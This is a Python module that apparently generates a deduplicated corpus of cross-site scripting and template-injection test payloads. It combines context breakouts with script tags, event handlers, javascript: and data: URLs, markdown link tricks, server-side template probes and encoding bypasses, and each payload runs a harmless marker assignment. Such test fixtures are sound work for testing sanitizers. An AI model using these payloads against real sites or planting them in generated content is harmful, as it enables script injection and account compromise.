"""Texts that try to become code, made of parts: how to leave the text, an element, an event, an encoding."""

from __future__ import annotations

from itertools import product

CALL = "window.__xss=1"
"""What every payload wants to run."""
LEAVES = (
    "",
    '">',
    "'>",
    '"',
    "</title>",
    "</textarea></script>",
    "-->",
    "]]>",
    "</code></pre>",
    "</summary></details>",
)
"""Ways out of where the text may stand."""
ELEMENTS = (
    "<script>{call}</script>", "<ScRiPt >{call}</sCrIpT>", "<script/x>{call}</script>", "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'//", "<svg onload={call}>", "<svg/onload={call}//", "<body onload={call}>",
    "<details open ontoggle={call}><summary>x</summary></details>", "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>", "<audio src=x onerror={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src='javascript:parent.{call}'>", "<object data='javascript:{call}'>", "<embed src='javascript:{call}'>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<a href='javascript:{call}' autofocus>x</a>",
    "<form action='javascript:{call}'><button autofocus>x</button></form>",
    "<base href='javascript:/{call}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<link rel=stylesheet href=x onerror={call}>",
    "<style onload={call}></style>", "<marquee onstart={call}>x</marquee>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<template><script>{call}</script></template>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<x contenteditable autofocus onfocus={call}>x</x>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="{call}" x="', "' onfocus='{call}' autofocus='", '" autofocus onfocus={call} x="',
    "` onload={call} `",
    '" style="animation-name:x" onanimationstart="{call}', '" onerror={call} src=x "', "x onclick={call} ",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{call})", "[x](JaVaScRiPt:{call})", "[x](java\tscript:{call})", "[x](&#106;avascript:{call})",
    "[x](&#x6A;avascript:{call})", "[x](javascript&colon;{call})", "[x](data:text/html,<script>{call}</script>)",
    "[x](vbscript:{call})", "![x](javascript:{call})",
    '![x"onerror="{call}](x.png)', '![x](x.png "\\"onerror={call}")',
    "<javascript:{call}>", "[x]: javascript:{call}\n\n[x]", "[a](<javascript:{call}>)", "`<script>{call}</script>`",
    "[x](//evil.example/{call})", "[x](  javascript:{call})", "[x](\x01javascript:{call})",
    "[<img src=x onerror={call}>](x)",
    "```html\n<script>{call}</script>\n```", "| <script>{call}</script> |\n|---|\n| <img src=x onerror={call}> |",
)  # fmt: skip
TEMPLATES = (
    "{{{{ {call} }}}}", "{{% for x in [1] %}}{call}{{% endfor %}}", "${{{call}}}", "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{ cycler.__init__.__globals__ }}}}", "#{{{call}}}", "{{{{constructor.constructor('{call}')()}}}}",
)  # fmt: skip
OTHERS = (
    "</script><script>{call}</script>", "\u2028{call}\u2029",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;{call}&#60;/script&#62;", "%3Cscript%3E{call}%3C/script%3E",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-", "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "<<script>{call}//<</script>",
    "';{call};'", '";{call};"', "\\';{call};//",
    "</style><script>{call}</script>", "<!--<script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>", "<?xml-stylesheet href='javascript:{call}'?>",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>", "*/{call}/*", "--><script>{call}</script><!--",
    "<\u200bscript>{call}</script>",
    '{{"@type":"x","y":"</script><script>{call}</script>"}}', "</noscript><script>{call}</script>",
    "</svg><script>{call}</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """Every payload once, always in the same order."""
    shapes = [leave + element for leave, element in product(LEAVES, ELEMENTS)]
    shapes += [*ATTRIBUTES, *MARKDOWN, *TEMPLATES, *OTHERS]
    return list(dict.fromkeys(shape.format(call=CALL) for shape in shapes))
